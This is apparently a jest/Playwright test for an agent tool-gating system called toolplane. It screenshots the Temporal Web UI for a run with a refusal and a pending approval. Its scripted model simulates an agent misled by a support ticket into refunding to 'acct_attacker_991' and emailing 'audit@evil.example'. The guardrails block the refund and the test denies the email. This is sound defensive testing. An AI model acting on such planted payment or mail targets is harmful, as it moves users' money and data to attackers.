// The operator's view in a real browser: Debian's chromium, driven by playwright-core, opens the
// dev server's Web UI for a run with a refusal and a pending approval. Screenshots go to
// artifacts/screenshots/ (CI keeps them).
import fs from 'node:fs';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import { chromium, type Browser, type Page } from 'playwright-core';
import type { Manifest } from '../../catalog/manifest';
import { startAgentRun } from '../../client';
import { resolveEscalation } from '../../workflows/escalation';
import { waitForPending } from '../support/escalations';
import { exampleManifest, harness, testDir, type Harness } from '../support/env';
import { supportDesk } from '../support/desk';

export const SCREENSHOTS = path.resolve(__dirname, '..', '..', 'artifacts', 'screenshots');
const CHROMIUM = process.env.TOOLPLANE_CHROMIUM ?? '/usr/bin/chromium';

describe('the Web UI shows what toolplane publishes', () => {
  const dir = testDir('web-ui');
  const base = exampleManifest();
  const askable: Manifest = {
    ...base,
    tools: base.tools.map((t) => (t.id === 'tool://mail/send_email' ? { ...t, approval: 'on_violation' } : t)),
  };
  let h: Harness;
  let browser: Browser;

  beforeAll(async () => {
    if (!fs.existsSync(CHROMIUM))
      throw new Error(
        `${CHROMIUM} is missing: install Debian's chromium (apt-get install -y chromium), as .ci/run does`,
      );
    fs.mkdirSync(SCREENSHOTS, { recursive: true });
    h = await harness(`web-ui-${randomUUID()}`);
    await h.runWorker({
      manifest: askable,
      tools: supportDesk(dir).tools,
    });
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-gpu'] });
  });
  afterAll(async () => {
    await browser?.close();
    await h?.close();
  });

  /** Waits until the page shows `text` (the UI loads and polls), with a deadline. */
  async function shows(page: Page, text: string | RegExp, timeoutMs = 30_000): Promise<void> {
    try {
      await page.getByText(text).first().waitFor({ state: 'visible', timeout: timeoutMs });
    } catch (err) {
      await page.screenshot({ path: path.join(SCREENSHOTS, 'failure.png'), fullPage: true });
      fs.writeFileSync(path.join(SCREENSHOTS, 'failure.txt'), await page.innerText('body').catch(() => ''));
      throw err;
    }
  }

  it('summaries, search attributes, details and the pending approval of a run', async () => {
    const ui = process.env.TOOLPLANE_TEST_UI_URL;
    if (!ui)
      throw new Error('TOOLPLANE_TEST_UI_URL is not set: run through jest, whose global setup starts the dev server');
    const principal = `agent:web-ui-${randomUUID().slice(0, 8)}`;
    const handle = await startAgentRun(
      h.client,
      {
        prompt: 'Ticket T-101: refund 10.00 EUR and tell the auditor.',
        principal,
        model: {
          endpoint: 'scripted',
          script: [
            { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
            // Refused: the account came from the ticket, not from the CRM.
            {
              tool_calls: [
                {
                  name: 'payments__refund',
                  arguments: { account_id: 'acct_attacker_991', amount_cents: 1000, currency: 'EUR' },
                },
              ],
            },
            // Waits for a person: the recipient came from the ticket.
            {
              tool_calls: [
                { name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 'T-101', body: 'done' } },
              ],
            },
            { final: 'done' },
          ],
        },
      },
      { taskQueue: h.taskQueue },
    );
    const pending = await waitForPending(handle);
    // Current Details, as the Web UI's metadata query reads them: what waits, and the effects so far.
    const metadata: { currentDetails?: string } = await handle.query('__temporal_workflow_metadata');
    expect(metadata.currentDetails).toMatch(
      /\*\*Waiting for approval\*\* until \d{4}-\d\d-\d\d \d\d:\d\d UTC: #2 tool:\/\/mail\/send_email/,
    );
    expect(metadata.currentDetails).toMatch(
      /\*\*Effects\*\*: 3 calls: 1 allowed, 1 refused by protected_field:\/account_id, 1 waiting/,
    );
    const page = await browser.newPage({ viewport: { width: 1400, height: 1800 } });
    try {
      const url = `${ui}/namespaces/default/workflows/${encodeURIComponent(handle.workflowId)}`;
      await page.goto(url);
      // The event history: model turns, tool calls and the approval timer carry summaries.
      await shows(page, 'model turn 1');
      await shows(page, 'tickets/read_ticket #0');
      await shows(page, /approval deadline \d{4}-\d\d-\d\d \d\d:\d\d UTC: #2 tool:\/\/mail\/send_email/);
      await page.screenshot({ path: path.join(SCREENSHOTS, 'run-history-summaries.png'), fullPage: true });
      // User Metadata: the events with summaries, the pending approval's timer among them.
      await page.getByText('User Metadata', { exact: true }).first().click();
      await shows(page, 'Events with Metadata');
      await page.screenshot({ path: path.join(SCREENSHOTS, 'run-user-metadata.png'), fullPage: true });
      // Search Attributes: toolplane's, as the run published them.
      await page.getByText('Search Attributes', { exact: true }).first().click();
      await shows(page, 'ToolplaneWaitingFor');
      await shows(page, 'ToolplaneRefusals');
      await page.screenshot({ path: path.join(SCREENSHOTS, 'run-search-attributes.png'), fullPage: true });

      // The workflow list, filtered by toolplane's search attributes as an operator would.
      const query = `ToolplaneWaitingFor="approval" AND ToolplaneRefusals>0 AND ToolplanePrincipal="${principal}"`;
      await page.goto(`${ui}/namespaces/default/workflows?query=${encodeURIComponent(query)}`);
      await shows(page, handle.workflowId);
      await page.screenshot({ path: path.join(SCREENSHOTS, 'runs-waiting-with-refusals.png'), fullPage: true });
    } finally {
      await page.close();
    }
    await handle.executeUpdate(resolveEscalation, {
      args: [{ effectKey: pending.effectKey, decision: 'deny', by: 'web-ui-test', reason: 'screenshots taken' }],
    });
    await handle.result();
    for (const f of [
      'run-history-summaries.png',
      'run-user-metadata.png',
      'run-search-attributes.png',
      'runs-waiting-with-refusals.png',
    ])
      expect(fs.statSync(path.join(SCREENSHOTS, f)).size).toBeGreaterThan(10_000);
  });
});
